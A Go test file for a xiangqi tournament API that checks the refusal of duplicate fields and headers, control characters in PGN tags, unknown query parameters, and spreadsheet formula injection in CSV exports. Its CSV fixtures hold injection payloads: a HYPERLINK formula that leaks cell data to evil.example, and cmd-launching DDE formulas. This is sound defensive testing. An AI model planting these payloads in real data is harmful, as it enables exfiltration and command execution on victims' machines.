package httpapi_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xqtour/xqtour/shared/httpapi"
	"github.com/xqtour/xqtour/shared/httpapi/apitest"
)

// encoding/json fills a field from a key of any case, so {"name":"a",
// "NAME":"b"} names one field twice and is refused as a duplicate, as
// {"name":"a","name":"b"} is; nothing is registered.
func TestFieldNamesCollidingInCaseAreDuplicates(t *testing.T) {
	s := apitest.New(t)
	ev := newEvent(t, s, `{"name":"Case Open","rounds":3}`)
	before := tableItems(t, s.Store)
	for _, body := range []string{
		`{"name":"a","NAME":"b"}`,
		`{"Name":"a","name":"b"}`,
		`{"name":"Li","club":"x","CLUB":"y"}`,
		"{\"name\":\"Li\",\"seeded\":true,\"\u017feeded\":false}", // ſ folds to s as encoding/json matches it
	} {
		r := s.Do(apitest.Req{Method: "POST", Path: "/tournaments/" + ev.ID + "/players", Token: ev.Token, Body: body, Invalid: true})
		if r.Status != http.StatusBadRequest || r.ErrorCode() != "duplicate_field" {
			t.Errorf("%s: %d %s; want 400 duplicate_field", body, r.Status, r.Body)
		}
	}
	if after := tableItems(t, s.Store); after != before {
		t.Fatalf("refused bodies changed the table: %d items, then %d", before, after)
	}
}

// Two Content-Type headers say two things about one body; a request
// carrying them (or one header a proxy folded from two) is refused with
// 400 duplicate_header before anything is read or written.
func TestTwoContentTypeHeadersAreRefused(t *testing.T) {
	s := apitest.New(t)
	for _, cts := range [][]string{
		{"application/json", "text/plain"},
		{"text/plain", "application/json"},
		{"application/json", "application/json"},
		{"application/json, text/plain"},
	} {
		req, err := http.NewRequest("POST", s.URL+"/tournaments", strings.NewReader(`{"name":"Two Types","rounds":3}`))
		if err != nil {
			t.Fatal(err)
		}
		req.Header["Content-Type"] = cts
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusBadRequest || !strings.Contains(string(body), `"duplicate_header"`) {
			t.Errorf("Content-Type %q: %d %s; want 400 duplicate_header", cts, resp.StatusCode, body)
		}
	}
	if n := countItems(t, s, "T#"); n != 0 {
		t.Fatalf("refused requests stored %d event items", n)
	}
	// One header is read as before.
	s.Post("/tournaments", "", `{"name":"One Type","rounds":3}`).Want(t, http.StatusCreated)
}

// A record whose tags hold a control character (ESC, CR, DEL, U+0085 NEL,
// a bidi override) is refused as a name holding one is: that game is not
// imported, the answer says which tag and character, and the tags never
// reach a PGN export. A file with CRLF line ends is read as before.
func TestImportedPGNTagsRefuseControlCharacters(t *testing.T) {
	s := apitest.New(t)
	const moves = "1. 炮二平五 马8进7 1-0\n"
	for _, tc := range []struct{ tag, char string }{
		{`[Red "Li` + "\x1b[31m" + `"]`, "U+001B"},
		{`[Event "Open` + "\r" + `[Result \"0-1\"]"]`, "U+000D"},
		{`[Black "Wang` + "\u0085" + `x"]`, "U+0085"},
		{`[Site "a` + "\x7f" + `"]`, "U+007F"},
		{`[Black "` + "\u202e" + `gnaW"]`, "U+202E"},
	} {
		out := importPGN(t, s, tc.tag+"\n"+moves, "application/x-chess-pgn", http.StatusUnprocessableEntity)
		if out.Imported != 0 || len(out.Games) != 1 || out.Games[0].Error == nil || !strings.Contains(out.Games[0].Error.Reason, tc.char) {
			t.Errorf("%q: %+v; want the game refused naming %s", tc.tag, out, tc.char)
		}
	}
	if n := countItems(t, s, "G#"); n != 0 {
		t.Fatalf("refused records stored %d games", n)
	}
	// Two games, one with a bad tag: the other is imported, and its export is clean.
	out := importPGN(t, s, "[Red \"A\x1bB\"]\n"+moves+"\r\n[Red \"Li\"]\r\n[Black \"Wang\"]\r\n"+strings.ReplaceAll(moves, "\n", "\r\n"), "application/x-chess-pgn", http.StatusCreated)
	if out.Imported != 1 || out.Games[0].Error == nil || out.Games[1].ID == "" {
		t.Fatalf("mixed file: %+v", out)
	}
	rec := s.Get("/games/"+out.Games[1].ID+"/record?format=pgn").Want(t, http.StatusOK)
	if !strings.Contains(string(rec.Body), `[Red "Li"]`) || strings.ContainsAny(string(rec.Body), "\x1b\r") {
		t.Fatalf("export of the clean game: %q", rec.Body)
	}
}

// formulas are cell texts a spreadsheet runs (CSV injection): every text a
// caller sets that reaches a CSV is set to one of them.
var formulas = []string{`=HYPERLINK("http://evil.example/?x="&A1,"open")`, `+1+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`}

// formulaEvent creates an event with settings and n players (or teams of
// boards players) whose names, clubs and team names are all formulas, and
// plays it to its end (or maxRounds), every game won by red.
func formulaEvent(t *testing.T, s *apitest.Server, settings string, n, boards, maxRounds int) string {
	t.Helper()
	ev := newEvent(t, s, settings)
	arb := s.Post("/tournaments/"+ev.ID+"/officials", ev.Token, map[string]any{"role": "arbiter", "name": formulas[0]}).Want(t, http.StatusCreated).JSON()["token"].(string)
	for i := range n {
		name := formulas[i%len(formulas)] + strconv.Itoa(i)
		club := formulas[(i+1)%len(formulas)] + strconv.Itoa(i%2)
		if boards == 0 {
			s.Post("/tournaments/"+ev.ID+"/players", ev.Token, map[string]any{"name": name, "club": club, "rating": 2000 - i}).Want(t, http.StatusCreated)
			continue
		}
		var members []map[string]any
		for j := range boards {
			members = append(members, map[string]any{"name": formulas[j%len(formulas)] + strconv.Itoa(10*i+j), "club": club, "rating": 2000 - 10*i - j})
		}
		s.Post("/tournaments/"+ev.ID+"/teams", ev.Token, map[string]any{"name": name, "members": members}).Want(t, http.StatusCreated)
	}
	for round := 1; round <= maxRounds; round++ {
		r := s.Post("/tournaments/"+ev.ID+"/rounds", ev.Token, map[string]any{"round": round})
		if r.Status == http.StatusUnprocessableEntity && r.ErrorCode() == "event_complete" {
			break
		}
		r.Want(t, http.StatusCreated)
		for played := false; !played; {
			var rd roundJSON
			s.Get("/tournaments/"+ev.ID+"/rounds/"+strconv.Itoa(round)).Want(t, http.StatusOK).Decode(t, &rd)
			played = true
			for _, p := range rd.Pairings {
				if p.Result == nil && p.GameID != "" {
					s.Post("/games/"+p.GameID+"/result", arb, map[string]any{"result": "1-0"}).Want(t, http.StatusOK)
					played = false // a knockout may add games as results come in
				}
			}
		}
	}
	return ev.ID
}

// Every CSV the API writes keeps every cell a caller controls as text: the
// test walks every public route of an event with ?format=csv (and every
// ?view= of the standings) over an individual Swiss with clubs, a team
// round robin, a groups event and a team knockout whose every name is a
// formula, and no cell of any answer starts with = + - @ tab or CR unless
// it is a plain number. The clubs table's team id column (a club's name)
// was written raw.
func TestEveryCSVCellACallerControlsIsText(t *testing.T) {
	s := apitest.New(t)
	events := []string{
		formulaEvent(t, s, `{"name":"=Swiss","rounds":3}`, 6, 0, 3),
		formulaEvent(t, s, `{"name":"=Teams","system":"roundRobin","teams":true,"boards":2}`, 3, 2, 9),
		formulaEvent(t, s, `{"name":"=Groups","system":"groups","groups":{"count":2,"finals":"samePlace"}}`, 6, 0, 9),
		formulaEvent(t, s, `{"name":"=Knockout","system":"knockout","teams":true,"boards":2}`, 4, 2, 9),
	}
	answered := map[string]bool{}
	for _, tid := range events {
		for _, rt := range httpapi.Routes {
			if rt.Method != "GET" || !rt.Who.Has(httpapi.RolePublic) || !strings.Contains(rt.Path, "{tid}") {
				continue
			}
			path := strings.NewReplacer("{tid}", tid, "{n}", "1").Replace(rt.Path)
			if strings.Contains(path, "{") {
				continue
			}
			views := []string{""}
			if strings.HasSuffix(rt.Path, "/standings") {
				views = []string{"", "players", "teams", "boards", "teamsByPlaces", "overall"}
			}
			for _, view := range views {
				q := "?format=csv"
				if view != "" {
					q += "&view=" + view
				}
				r := s.Do(apitest.Req{Method: "GET", Path: path + q, Invalid: true})
				if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
					continue
				}
				answered[rt.Path+q] = true
				rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
				if err != nil {
					t.Fatalf("%s%s: %v", path, q, err)
				}
				escaped := 0
				for _, row := range rows {
					for _, cell := range row {
						if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							if _, err := strconv.ParseFloat(cell, 64); err != nil {
								t.Errorf("%s%s: cell %q would run as a formula", rt.Path, q, cell)
							}
						}
						for _, f := range formulas {
							if strings.HasPrefix(cell, "'"+f) {
								escaped++
							}
						}
					}
				}
				if escaped == 0 {
					t.Errorf("%s%s: no name reached the CSV: %s", rt.Path, q, r.Body)
				}
			}
		}
	}
	for _, want := range []string{
		"/tournaments/{tid}/standings?format=csv", "/tournaments/{tid}/standings?format=csv&view=teamsByPlaces",
		"/tournaments/{tid}/standings?format=csv&view=teams", "/tournaments/{tid}/standings?format=csv&view=boards",
		"/tournaments/{tid}/standings?format=csv&view=overall", "/tournaments/{tid}/crosstable?format=csv",
		"/tournaments/{tid}/rounds/{n}?format=csv", "/tournaments/{tid}/ratings?format=csv",
	} {
		if !answered[want] {
			t.Errorf("%s was never answered as CSV: the walk missed a table", want)
		}
	}
}

// Every GET route of the API refuses a query parameter it does not read
// with 400 unknown_query naming the ones it takes (an unread ?x=<n> made
// every public read a fresh cache key), and one given twice; each route's
// own parameters are read as before, as the routes' own tests show.
func TestUnknownQueryParametersAreRefused(t *testing.T) {
	s := apitest.New(t)
	f := newFixture(t, s)
	for _, rt := range httpapi.Routes {
		if rt.Method != "GET" || rt.Function == httpapi.FnWeb {
			continue
		}
		path := f.path(strings.Replace(rt.Path, "{id}", "P-11", 1))
		r := s.Do(apitest.Req{Method: "GET", Path: path + "?x=1", Token: f.token(rt.Who), Invalid: true})
		if r.Status != http.StatusBadRequest || r.ErrorCode() != "unknown_query" || !strings.Contains(errorMessage(r), `"x"`) {
			t.Errorf("GET %s?x=1: %d %s; want 400 unknown_query", rt.Path, r.Status, r.Body)
			continue
		}
		for _, name := range rt.Query() {
			if !strings.Contains(errorMessage(r), name) {
				t.Errorf("GET %s?x=1: %s does not name %q", rt.Path, errorMessage(r), name)
			}
		}
		if len(rt.Query()) == 0 && !strings.Contains(errorMessage(r), "no query parameters") {
			t.Errorf("GET %s?x=1: %s", rt.Path, errorMessage(r))
		}
	}
	// A misspelt parameter is refused, not read as the default; a repeated one too.
	wantError(t, s.Do(apitest.Req{Method: "GET", Path: "/tournaments/" + f.tid + "/standings?rund=1", Invalid: true}), http.StatusBadRequest, "unknown_query", "")
	wantError(t, s.Do(apitest.Req{Method: "GET", Path: "/tournaments/" + f.tid + "/standings?round=1&round=2", Invalid: true}), http.StatusBadRequest, "invalid_query", "")
	// The parameters a route takes, and the web client's, still work.
	s.Get("/tournaments/"+f.tid+"/standings?round=1&live=false&view=players&format=json&offset=0&limit=10").Want(t, http.StatusOK)
	s.Get("/tournaments/"+f.tid+"/rounds/1?explain=true&format=json").Want(t, http.StatusOK)
	s.Get("/games/"+f.gid+"?since=0&notation=chinese&script=traditional").Want(t, http.StatusOK)
	s.Get("/tournaments/"+f.tid+"/games?round=1&format=pgn&limit=5&offset=0").Want(t, http.StatusOK)
}

// The OpenAPI document lists exactly the query parameters each GET route
// takes, so the refusal's list and the document never drift apart.
func TestOpenAPIQueryParametersAreTheRoutes(t *testing.T) {
	doc, err := httpapi.OpenAPI()
	if err != nil {
		t.Fatal(err)
	}
	for _, rt := range httpapi.Routes {
		if rt.Method != "GET" {
			continue
		}
		item := doc.Paths.Find(strings.Replace(rt.Path, "{name...}", "{name}", 1))
		if item == nil || item.Get == nil {
			t.Errorf("GET %s is not in the OpenAPI document", rt.Path)
			continue
		}
		var documented []string
		for _, p := range append(item.Parameters, item.Get.Parameters...) {
			if p.Value != nil && p.Value.In == "query" {
				documented = append(documented, p.Value.Name)
			}
		}
		slices.Sort(documented)
		if rt.Function != httpapi.FnWeb && !slices.Equal(documented, rt.Query()) {
			t.Errorf("GET %s: the document lists %v, the route takes %v", rt.Path, documented, rt.Query())
		}
	}
}

// errorMessage is error.message of an error body.
func errorMessage(r *apitest.Resp) string {
	var e struct{ Error struct{ Message string } }
	_ = json.Unmarshal(r.Body, &e)
	return e.Error.Message
}
